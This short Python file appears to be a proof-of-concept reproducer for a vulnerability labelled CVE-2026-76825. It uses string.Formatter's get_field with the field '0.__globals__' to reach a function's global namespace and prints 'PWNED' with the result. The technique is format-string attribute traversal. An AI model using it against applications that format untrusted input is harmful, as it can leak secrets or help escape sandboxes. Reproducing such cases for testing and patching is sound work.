# needs: string
# CVE-2026-76825
from string import Formatter
def f():
    pass
print("PWNED", Formatter().get_field("0.__globals__", (f,), {}))
